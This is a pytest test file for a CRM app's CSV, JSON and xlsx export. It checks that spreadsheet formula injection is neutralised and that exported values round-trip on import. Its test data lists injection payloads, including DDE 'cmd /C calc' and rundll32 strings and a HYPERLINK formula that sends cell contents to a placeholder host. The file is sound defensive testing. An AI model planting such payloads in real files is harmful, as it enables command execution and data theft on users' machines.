import csv
import json
import re
from contextlib import closing
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from crm_desktop.core.errors import NotAllowed, UserError
from crm_desktop.data.database import fetch
from crm_desktop.exchange import export as exporting
from crm_desktop.exchange.export import export, export_everything
from crm_desktop.exchange.importing import prepare
from crm_desktop.exchange.sheet_text import from_xlsx, guarded, unguarded, xlsx_text
from crm_desktop.exchange.writers import json_value, write_csv, write_xlsx
from crm_desktop.queries.columns import Column
from crm_desktop.queries.listing import Question
from crm_desktop.queries.subjects import CUSTOMERS, INTERACTIONS, ORDERS, SUBJECTS
from tests.conftest import MOMENT

FORMULAS = (
    "=1+1", "+49 30", "-5", "@SUM(A1)", "\ttab", "\nline", "＝１", "＋１", "－１", "＠", "=cmd|' /C calc'!A0", '=HYPERLINK("x")',
    '=HYPERLINK("http://a.example/?"&A1,"Click")', "=IMPORTXML(CONCAT(A1),1)", '=WEBSERVICE("http://a.example")', "=DDE(1)", "=A1:A9",
    "=rundll32|'URL.dll,OpenURL'!A", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2",
    "\t=1+1", "\n=1+1", "=\t1", "==1", "=+1", "+=1", "@=1", "-=1", "=1\n=2", "'=1", "''=1", "='a'!A1", '="a"&"b"', "=", "+", "-", "@",
    "=1;=2", "=1,=2",
)  # fmt: skip
PARTED = (
    "a;=1",
    "a,=1",
    "a\t=1",
    "a|=1",
    ";=cmd|' /C calc'!A0;",
    ",@SUM(A1)",
    "x\n=1",
    "x\r\n=1",
    "x\n-1+cmd|' /C calc'!A0",
    "a;'=1",
    "a;;＝1",
)
"""Formulas behind a sign that parts cells where the list is opened otherwise."""
COMPANY = '[company]\nname = "A"\ncurrency = "EUR"\nzone = "Europe/Berlin"\n'
TEXTS = ("plain", "", "'", "'plain", "'=", "''=", "a=1", " =1", "_x0041_", "x_x0041_y", "__x0041_", "\ufffe", "\uffff_x")


def read(path, encoding="utf-8"):
    with path.open(encoding=encoding, newline="") as file:
        return list(csv.DictReader(file))


def cells(path):
    with closing(load_workbook(path, read_only=True)) as book:
        return [list(row) for row in book.active.iter_rows()]


@pytest.fixture
def logged():
    return lambda: fetch("SELECT staff_id, action, entity_table, detail FROM access_log ORDER BY id")


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_takes_for_a_formula_has_an_apostrophe_in_front(text, tmp_path):
    write_csv(tmp_path / "a.csv", [Column("text", "")], [(text,)])

    assert (tmp_path / "a.csv").read_bytes().decode().startswith('"text"\r\n"\'')
    assert unguarded(read(tmp_path / "a.csv")[0]["text"]) == text


@pytest.mark.parametrize("text", FORMULAS + TEXTS)
def test_taking_the_apostrophe_away_gives_every_text_back(text):
    assert unguarded(guarded(text)) == text
    assert from_xlsx(xlsx_text(text)) == text


@pytest.mark.parametrize("text", PARTED)
def test_what_becomes_a_cell_where_another_sign_parts_them_is_no_formula_either(text, tmp_path):
    write_csv(tmp_path / "a.csv", [Column("text", ""), Column("more", "")], [("x", text)])
    (row,) = read(tmp_path / "a.csv")
    cells = re.split(r"[,;\t|\r\n]", row["more"])
    assert not any(cell.startswith(("=", "@", "+", "-", "＝")) for cell in cells)
    assert unguarded(row["more"]) == text


def test_a_list_of_points_stays_as_it_was_written():
    assert guarded("To do:\n- call\n- write, then wait") == "To do:\n- call\n- write, then wait"


@given(st.text("'=+-@;,|\t\r\n ax＝"))
def test_any_text_comes_back(text):
    assert unguarded(guarded(text)) == text


def test_formulas_that_were_exported_come_in_again_as_they_were(tmp_path):
    texts = [text for text in (*FORMULAS, *PARTED) if "\r" not in text]  # none is in a store
    columns = [Column(name, "") for name in ("number", "name", "notes")]
    rows = [(f"C{number}", f"Customer {number}", text) for number, text in enumerate(texts)]
    for write, ending in ((write_csv, ".csv"), (lambda path, *rest: write_xlsx(path, "all", *rest), ".xlsx")):
        write(tmp_path / f"a{ending}", columns, rows)
        mapping = f'source = "a"\nguarded = true\n{COMPANY}[[file]]\npath = "a{ending}"\n[file.customer]\nid = "number"\nname = "name"\n'
        (tmp_path / "m.toml").write_text(f'{mapping}notes = "notes"\n')
        (customers,) = prepare(tmp_path / "m.toml", tmp_path).incoming
        notes = [row[customers.columns.index("notes")] for row in customers.rows]
        assert notes == texts


@pytest.mark.parametrize("text", FORMULAS)
def test_in_a_workbook_a_text_is_a_text(text, tmp_path):
    write_xlsx(tmp_path / "a.xlsx", "all", [Column("text", "")], [(text,)])

    ((_header,), (cell,)) = cells(tmp_path / "a.xlsx")
    assert cell.data_type in ("s", "inlineStr")
    assert cell.value == text


def test_a_text_too_long_for_a_cell_is_refused_and_not_cut(make_interaction, owner, tmp_path):
    make_interaction(notes="x" * 32_768)

    with pytest.raises(UserError, match="32767"):
        export(Question(INTERACTIONS), tmp_path / "all.xlsx", owner)
    assert not list(tmp_path.glob("*all*"))
    assert not list(tmp_path.glob(".*"))


def test_values_have_the_spelling_that_each_kind_of_file_has_for_them(make_order, owner, tmp_path):
    order = make_order()
    for ending in ("csv", "json", "xlsx"):
        assert export(Question(ORDERS), tmp_path / f"orders.{ending}", owner) == 1

    (as_csv,) = read(tmp_path / "orders.csv")
    assert (as_csv["number"], as_csv["total"], as_csv["ordered_at"]) == (order.number, "29.97", "2026-01-05T10:30:00+01:00")
    assert (as_csv["shipped_on"], as_csv["custom"]) == ("", "{}")
    found = json.loads((tmp_path / "orders.json").read_text(encoding="utf-8"))
    assert (found["what"], found["count"]) == ("orders", 1)
    assert (found["records"][0]["total"], found["records"][0]["currency"], found["records"][0]["custom"]) == ("29.97", "EUR", {})
    names, values = ([cell.value for cell in row] for row in cells(tmp_path / "orders.xlsx"))
    as_xlsx = dict(zip(names, values, strict=True))
    assert (as_xlsx["total"], as_xlsx["line_count"], as_xlsx["ordered_at"]) == (
        29.97,
        1,
        (MOMENT + timedelta(hours=1)).replace(tzinfo=None),
    )


def test_an_export_is_of_what_was_asked_for_in_its_order(make_customer, owner, tmp_path):
    for name in ("Ben", "Ada", "Cleo"):
        make_customer(name)

    export(Question(CUSTOMERS, (("name", "!=", "Cleo"),), "name"), tmp_path / "some.csv", owner)

    assert [row["name"] for row in read(tmp_path / "some.csv")] == ["Ada", "Ben"]


def test_the_mark_is_there_only_when_it_is_asked_for(store, owner, tmp_path):
    export(Question(ORDERS), tmp_path / "plain.csv", owner)
    export(Question(ORDERS), tmp_path / "marked.csv", owner, mark=True)

    assert (tmp_path / "marked.csv").read_bytes() == b"\xef\xbb\xbf" + (tmp_path / "plain.csv").read_bytes()


def test_who_exported_what_is_written_down(store, owner, nancy, tmp_path, logged):
    export(Question(ORDERS), tmp_path / "all.csv", nancy)
    export_everything(tmp_path / "all", owner)

    assert logged() == [(nancy.id, "export", "orders", ".csv"), (owner.id, "export", "everything", ".csv")]


def test_who_may_not_export_gets_no_file(store, auditor, tmp_path, logged):
    from crm_desktop.core.actors import Actor, Role

    with pytest.raises(NotAllowed):
        export(Question(ORDERS), tmp_path / "all.csv", Actor(2, "rob", Role.REPRESENTATIVE))
    assert not list(tmp_path.glob("all*"))
    assert logged() == []
    export(Question(ORDERS), tmp_path / "all.csv", auditor)


def test_an_export_that_breaks_off_leaves_the_file_that_was_there(make_order, owner, tmp_path, monkeypatch):
    make_order()
    (tmp_path / "orders.csv").write_text("mine", encoding="utf-8")
    (tmp_path / "all").mkdir()

    def full(*_arguments, **_more):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(exporting, "write_csv", full)
    for attempt in (lambda: export(Question(ORDERS), tmp_path / "orders.csv", owner), lambda: export_everything(tmp_path / "all", owner)):
        with pytest.raises(OSError, match="No space"):
            attempt()
    assert (tmp_path / "orders.csv").read_text(encoding="utf-8") == "mine"
    assert not list((tmp_path / "all").iterdir())
    assert not list(tmp_path.glob(".*"))


@pytest.mark.parametrize("ending", [".csv", ".json", ".xlsx"])
def test_everything_is_a_file_for_each_list_and_a_description(ending, make_order, owner, tmp_path):
    make_order()

    written = export_everything(tmp_path / "all", owner, ending=ending)

    described = json.loads((tmp_path / "all" / "description.json").read_text(encoding="utf-8"))
    files = {path.name for path in (tmp_path / "all").iterdir()}
    assert files == {"description.json", *(f"{subject.name}{ending}" for subject in SUBJECTS)}
    assert {file["file"]: file["records"] for file in described["files"]} == {f"{name}{ending}": count for name, count in written.items()}
    assert (described["company"], described["currency"], described["zone"]) == ("Hafenhandel", "EUR", "Europe/Berlin")
    orders = next(file for file in described["files"] if file["file"] == f"orders{ending}")
    assert {"name": "customer", "kind": "text", "refers_to": "customers"} in orders["columns"]
    with pytest.raises(UserError, match="holds something"):
        export_everything(tmp_path / "all", owner)


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("all.vcf", "Cards hold customers"),
        ("all.ics", "Calendars hold appointments"),
        ("all.txt", "ends in none of"),
        ("all", "ends in none"),
    ],
)
def test_an_ending_that_nobody_writes_is_refused(name, words, store, owner, tmp_path):
    with pytest.raises(UserError, match=words):
        export(Question(ORDERS), tmp_path / name, owner)


def test_money_is_text_and_a_quantity_a_number_in_json():
    from decimal import Decimal

    from crm_desktop.queries.columns import Kind

    assert json_value(Column("total", "", Kind.MONEY), Decimal("1.50")) == "1.50"
    assert json_value(Column("quantity", "", Kind.QUANTITY), Decimal("1.50")) == 1.5
    assert json_value(Column("quantity", "", Kind.QUANTITY), Decimal("3.0000")) == 3
